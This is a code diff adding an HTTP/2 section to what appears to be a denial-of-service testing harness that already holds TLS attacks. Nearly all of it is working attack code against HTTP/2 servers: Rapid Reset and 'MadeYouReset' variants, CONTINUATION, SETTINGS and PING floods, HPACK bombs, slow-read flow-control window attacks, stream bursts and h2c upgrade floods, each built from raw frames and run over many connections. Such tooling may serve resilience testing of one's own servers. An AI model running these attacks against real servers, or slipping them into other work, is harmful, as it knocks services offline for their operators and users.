@@ -8,6 +8,9 @@ import ssl
 import struct
 import threading
 
+import frames
+from frames import frame, settings, window
+
 GET = b"GET %s HTTP/1.1\r\nHost: h\r\n\r\n"
 RESET = struct.pack("ii", 1, 0)
 
@@ -249,6 +252,144 @@ def tls_file_unread(attackers):
 
 
 TLS = [handshakes_half_open, hellos_reset, handshakes, garbage_of_tls, records_of_a_byte, tls_file_unread]
+
+
+# ---- a web server that speaks HTTP/2
+
+def streams(attackers, each, before=b"", count=4):
+    """Connections that send what `each` gives for one stream after the other, and read what comes, until the server ends them; and then anew."""
+    def attack():
+        with socket.create_connection((attackers.server.host, attackers.server.port), 5) as connection:
+            connection.sendall(frames.PREFACE + before)
+            for first in range(1, 1 << 20, 128):
+                connection.setblocking(True)
+                connection.settimeout(5)
+                connection.sendall(b"".join(each(stream) for stream in range(first, first + 128, 2)))
+                connection.setblocking(False)
+                try:
+                    while not attackers.is_over.is_set():
+                        if not connection.recv(1 << 20):
+                            return
+                    return
+                except BlockingIOError:
+                    pass
+
+    attackers.repeat(count, attack)
+
+
+CLOSED, OPEN = settings((4, 0)), settings((4, frames.WINDOW_MAX)) + window(0, frames.WINDOW_MAX - 65_535)
+BIG = b"/big.bin"
+BIG_FILES = b"".join(frames.get(stream, BIG) for stream in range(1, 201, 2))
+
+
+def rapid_reset(attackers):
+    streams(attackers, lambda stream: frames.get(stream, BIG) + frames.reset(stream), settings())
+
+
+def made_you_reset_by_windows(attackers):
+    streams(attackers, lambda stream: frames.get(stream, BIG) + window(stream, 0 if stream % 4 == 1 else frames.WINDOW_MAX), settings())
+
+
+def made_you_reset_by_frames(attackers):
+    upper, twice = frames.literal(b"A", b"1"), frame(frames.DATA, frames.END_STREAM, 1, b"x")
+    streams(attackers, lambda stream: frames.get(stream, BIG, upper) if stream % 4 == 1 else
+            frames.get(stream, ends=False) + 2 * twice.replace(b"\x01\0\0\0\x01", b"\x01" + struct.pack(">I", stream)), settings())
+
+
+def continuations(attackers):
+    streams(attackers, lambda stream: frame(frames.CONTINUATION, 0, 1), settings() + frame(frames.HEADERS, 1, 1))
+
+
+def settings_flood(attackers):
+    both = b"\0\4\0\0\0\1\0\4\0\0\0\2"
+    streams(attackers, lambda stream: frame(frames.SETTINGS, 0, 0, both * 1360), settings() + BIG_FILES)
+
+
+def pings(attackers):
+    streams(attackers, lambda stream: frame(frames.PING, 0, 0, b"12345678"), settings())
+
+
+def priorities(attackers):
+    def update(stream):
+        return frame(frames.PRIORITY_UPDATE, 0, 0, struct.pack(">I", stream % 200) + b"u=%d" % (stream // 2 % 8))
+
+    streams(attackers, update, CLOSED + BIG_FILES)
+
+
+def data_without_data(attackers):
+    streams(attackers, lambda stream: frame(frames.DATA, 0, 1), settings() + frames.get(1, ends=False))
+
+
+def uploads_of_a_byte(attackers):
+    streams(attackers, lambda stream: frame(frames.DATA, 8, 1, b"\xfex" + b"\0" * 254), settings() + frames.get(1, ends=False))
+
+
+def windows_of_a_byte(attackers):
+    streams(attackers, lambda stream: window(0, 1), settings((4, frames.WINDOW_MAX)) + BIG_FILES)
+
+
+def small_windows(attackers):
+    streams(attackers, lambda stream: window(0, 256), settings((4, frames.WINDOW_MAX)) + BIG_FILES)
+
+
+def windows_closed(attackers):
+    """A slow read: a hundred streams on each of a thousand connections."""
+    attackers.crowd(1000, frames.PREFACE + CLOSED + BIG_FILES)
+
+
+def streams_unread(attackers):
+    attackers.crowd(200, frames.PREFACE + OPEN + BIG_FILES, receive_buffer=2048)
+
+
+def hpack_bombs(attackers):
+    bomb = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000 + b"\xbe" * 8000
+    streams(attackers, lambda stream: frames.get(stream, more=bomb), settings())
+
+
+def hpack_tables(attackers):
+    """The table is emptied and filled again, and so is that for replies."""
+    sizes = b"\x20\x3f\xe1\x1f"
+    block = sizes + b"\x82\x86" + frames.literal(b":path", b"/small.txt") + frames.literal(b":authority", b"h") + b"\x40\1a\1b" * 3000
+    streams(attackers, lambda stream: settings((1, 0), (1, 1 << 31)) + frame(frames.HEADERS, 5, stream, block), settings())
+
+
+def bursts_of_streams(attackers):
+    burst = frames.PREFACE + settings() + b"".join(frames.get(stream, BIG) for stream in range(1, 16_384, 2))
+    attackers.repeat(4, lambda: attackers.exchange(burst))
+
+
+def heads_without_end(attackers):
+    head = b"\0\1a\x7e" + b"b" * 126
+    streams(attackers, lambda stream: frames.get(stream, more=head * 120), settings())
+
+
+def missing_names_on_streams(attackers):
+    streams(attackers, lambda stream: frames.get(stream, b"/%016x" % random.getrandbits(64)), settings())
+
+
+def many_ranges_on_streams(attackers):
+    ranges = frames.literal(b"range", b"bytes=" + b",".join(b"%d-%d" % (at * 4000, at * 4000) for at in range(11)))
+    streams(attackers, lambda stream: frames.get(stream, BIG, ranges), settings())
+
+
+def identifiers_that_go_back(attackers):
+    streams(attackers, lambda stream: frames.get(1 << 20 | 1) + frames.get(1), settings())
+
+
+def frames_on_closed_streams(attackers):
+    streams(attackers, lambda stream: frame(frames.DATA, 0, 1, b"x") + frames.reset(1) + window(1, 1),
+            settings() + frames.get(1, ends=False) + window(1, 0))
+
+
+def upgrades_to_h2c(attackers):
+    upgrade = b"GET /small.txt HTTP/1.1\r\nHost: h\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n"
+    attackers.repeat(4, lambda: attackers.exchange(upgrade * 1000, read_max=200_000))
+
+
+HTTP2 = [rapid_reset, made_you_reset_by_windows, made_you_reset_by_frames, continuations, settings_flood, pings, priorities,
+         data_without_data, uploads_of_a_byte, windows_of_a_byte, small_windows, windows_closed, streams_unread, hpack_bombs, hpack_tables,
+         bursts_of_streams, heads_without_end, missing_names_on_streams, many_ranges_on_streams, identifiers_that_go_back,
+         frames_on_closed_streams, upgrades_to_h2c]
 
 
 # ---- a cache
